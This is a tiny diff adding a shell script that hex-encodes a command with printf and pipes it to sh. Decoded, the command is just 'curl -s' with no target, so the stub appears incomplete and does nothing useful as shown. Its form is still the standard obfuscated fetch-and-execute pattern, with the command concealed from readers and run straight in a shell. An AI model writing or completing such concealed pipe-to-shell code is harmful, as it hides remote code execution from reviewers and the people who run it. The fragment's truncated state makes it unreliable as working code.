@@ -1,0 +1,2 @@
+#!/bin/sh
+printf '\x63\x75\x72\x6c\x20\x2d\x73' | sh
